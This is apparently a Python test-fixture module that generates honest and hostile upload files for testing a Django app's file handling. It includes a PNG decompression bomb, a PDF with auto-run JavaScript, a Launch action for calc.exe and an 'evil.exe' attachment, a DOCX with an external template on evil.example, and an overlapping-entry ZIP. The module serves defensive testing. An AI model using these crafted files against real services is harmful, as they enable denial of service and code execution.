"""Honest and hostile files, made on the spot."""

import base64
import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, TiffImagePlugin

# A real 64 x 48 picture in HEVC, as phones make it.
HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAX1tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAA"
    "AAAAAAAAACJpbG9jAAAAAERAAAEAAQAAAAABoQABAAAAAAAAABoAAAAjaWluZgAAAAAAAQAAABVpbmZlAgAAAAABAABo"
    "dmMxAAAAAA5waXRtAAAAAAABAAAA/WlwcnAAAADdaXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEA"
    "GEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAqQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAA"
    "AwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xhcAAAAEAAAAAB"
    "AAAAMAAAAAEAAAAAAAAAAv////AAAAACAAAAEHBpeGkAAAAAAwgICAAAABhpcG1hAAAAAAAAAAEAAQWBAgMFhAAAACJt"
    "ZGF0AAAAFigBrxmA70mlv//f4x/19q/4prWmPm4="
)


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def jpeg(width: int = 60, height: int = 40, **more) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((width, height), 60).convert("RGB").save(out, "JPEG", **more)
    return out.getvalue()


def png(width: int = 60, height: int = 40, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height)).save(out, "PNG")
    return out.getvalue()


def photo_with_place() -> bytes:
    """Taken upright by a phone held sideways, with the coordinates of a ger."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "PhoneMaker"
    rational = TiffImagePlugin.IFDRational
    exif.get_ifd(0x8825).update({1: "N", 2: (rational(47), rational(55), rational(12))})
    return jpeg(exif=exif.tobytes(), comment=b"<script>alert(1)</script>")


def png_bomb(side: int = 16_000) -> bytes:
    """Some kilobytes that ask for side x side x 4 bytes of memory."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    # Zeros pack into the same bytes again and again: a hundred rows are packed, then repeated.
    assert side % 100 == 0
    packer = zlib.compressobj(9, wbits=-15)
    row = b"\0" * (1 + side * 4)
    packed = packer.compress(row * 100) + packer.flush(zlib.Z_FULL_FLUSH)
    adler = len(row) * side % 65521 << 16 | 1
    rows = b"\x78\xda" + packed * (side // 100) + packer.flush() + struct.pack(">I", adler)
    head = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(*, password: str = "", acting: bool = False) -> bytes:
    out = io.BytesIO()
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(200, 200))
    if acting:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('hello')")
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
        made.Root.OpenAction = script
        made.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["go", made.make_indirect(script)]))
        )
        made.Root.AcroForm = pikepdf.Dictionary(XFA="<xdp/>", Fields=pikepdf.Array())
        made.Root.Metadata = made.make_stream(b"<x>Bold Dorj</x>")
        made.docinfo["/Author"] = "Bold Dorj"
        made.attachments["evil.exe"] = b"MZ-evil"
        web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.mn/law")
        page.obj.AA = pikepdf.Dictionary(O=launch)
        page.obj.Annots = pikepdf.Array(
            [
                _note(made, "Link", A=launch),
                _note(made, "Link", A=web),
                _note(made, "FileAttachment", Contents="evil"),
            ]
        )
    encryption = pikepdf.Encryption(owner=password, user=password) if password else False
    made.save(out, encryption=encryption)
    return out.getvalue()


def _note(made: pikepdf.Pdf, kind: str, **more) -> pikepdf.Object:
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + kind), Rect=[0, 0, 9, 9], **more
    )
    return made.make_indirect(note)


_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" '
    f'ContentType="{_WORD}.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="r2" '
    'Type="http://x/hyperlink" Target="https://legalinfo.mn" TargetMode="External"/>'
    "</Relationships>"
)


def docx(more: Mapping[str, str | bytes] | None = None, *, types: str = _TYPES) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<document>Сайн байна уу</document>")
        archive.writestr("word/_rels/document.xml.rels", RELATIONS)
        archive.writestr("docProps/core.xml", "<core>Bold Dorj</core>")
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def overlapping_docx() -> bytes:
    """The second entry of the directory points into the bytes of the first."""
    honest = bytearray(docx({"word/a.xml": b"A" * 5000, "word/b.xml": b"B" * 5000}))
    directory = honest.rindex(b"word/b.xml") - 46
    first = honest.index(b"word/a.xml") - 30
    honest[directory + 42 : directory + 46] = struct.pack("<I", first)
    return bytes(honest)


def wav(seconds: int = 2) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(b"\1\2" * 8000 * seconds)
    return out.getvalue() + b"LIST" + struct.pack("<I", 10) + b"INFOsecret"


def _element(identity: str, content: bytes) -> bytes:
    """EBML: identity, length in one byte or in eight, content."""
    size = len(content)
    length = bytes([0x80 | size]) if size < 127 else struct.pack(">Q", 1 << 56 | size)
    return bytes.fromhex(identity) + length + content


def webm_voice_note(codec: bytes = b"A_OPUS") -> bytes:
    """What MediaRecorder makes: an EBML head, one track, one cluster with one block."""
    head = _element(
        "1A45DFA3",
        _element("4286", b"\1") + _element("42F7", b"\1") + _element("42F2", b"\4")
        + _element("42F3", b"\x08") + _element("4282", b"webm") + _element("4287", b"\4")
        + _element("4285", b"\2"),
    )  # fmt: skip
    opus = b"OpusHead\x01\x01\x00\x00\x80\xbb\x00\x00\x00\x00\x00"
    track = _element(
        "AE",
        _element("D7", b"\1") + _element("73C5", b"\1") + _element("83", b"\2")
        + _element("86", codec) + _element("63A2", opus),
    )  # fmt: skip
    info = _element("1549A966", _element("2AD7B1", b"\x0f\x42\x40") + _element("4D80", b"Chrome"))
    block = _element("A3", b"\x81\x00\x00\x80" + b"\xf8\xff\xfe")
    cluster = _element("1F43B675", _element("E7", b"\0") + block)
    return head + _element("18538067", info + _element("1654AE6B", track) + cluster)


def box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def mp4(handler: bytes = b"vide", brand: bytes = b"isom") -> bytes:
    """Boxes of a phone's film: five seconds, one track, and the place where it was taken."""
    length = b"\0" * 12 + struct.pack(">II", 1000, 5400) + b"\0" * 80
    track = box(b"trak", box(b"mdia", box(b"hdlr", b"\0" * 8 + handler + b"\0" * 13)))
    place = box(b"udta", box(b"\xa9xyz", b"\0\x12\x15\xc7+47.9200+106.9200/"))
    return (
        box(b"ftyp", brand + b"\0\0\2\0" + brand + b"mp41")
        + box(b"moov", box(b"mvhd", length) + track + place)
        + box(b"mdat", b"\0" * 200)
    )


def mp3() -> bytes:
    """One tag with a name, then frames of silence (MPEG 1 layer 3, 128 kbit/s, 44.1 kHz)."""
    tag = b"ID3\4\0\0" + bytes([0, 0, 0, 20]) + b"TPE1Bold Dorj".ljust(20, b"\0")
    frame = b"\xff\xfb\x90\x00" + b"\0" * 413
    return tag + frame * 20 + b"TAG" + b"Bold Dorj".ljust(125, b"\0")
